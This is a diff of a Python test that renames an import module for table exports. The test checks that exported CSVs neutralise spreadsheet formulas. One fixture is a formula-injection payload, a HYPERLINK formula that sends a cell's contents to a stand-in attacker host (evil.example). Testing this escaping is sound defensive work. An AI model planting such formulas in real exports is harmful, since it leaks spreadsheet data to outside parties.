@@ -5,7 +5,7 @@ from __future__ import annotations
 import pandas as pd
 
 from analysis.core import config, storage, tables
-from analysis.report import report
+from analysis.report import exports
 from analysis.report.notebook import REPORT_TABLES
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -31,7 +31,7 @@ def test_report_tables_quote_formula_text_and_keep_negative_numbers(tmp_path):
     storage.write_table(_row("sentiment_evidence", text=SUM, score=-0.25, pull=-1.5), paths.table("sentiment_evidence"))
     paths.interim.mkdir(parents=True, exist_ok=True)
     (paths.interim / "collection_status.csv").write_text("url,status\n=1+1,fetched\nhttp://a.example/,fetched\n")
-    report.export_tables(paths)
+    exports.export_tables(paths)
 
     def cells(name: str) -> pd.DataFrame:
         return pd.read_csv(paths.tables / f"{name}.csv", dtype=str, keep_default_na=False)
